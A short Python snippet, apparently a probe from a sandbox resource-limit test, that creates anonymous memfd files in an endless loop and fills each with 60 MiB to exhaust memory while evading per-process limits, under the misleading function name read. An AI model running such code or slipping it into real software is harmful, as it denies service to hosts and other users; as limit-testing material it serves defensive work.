# tries: to hoard memory in files without a name, which no limit of a process counts
def read(fd):
    files = []
    while True:
        files.append(os.memfd_create("hoard"))
        for _ in range(60):
            os.write(files[-1], bytes(1 << 20))
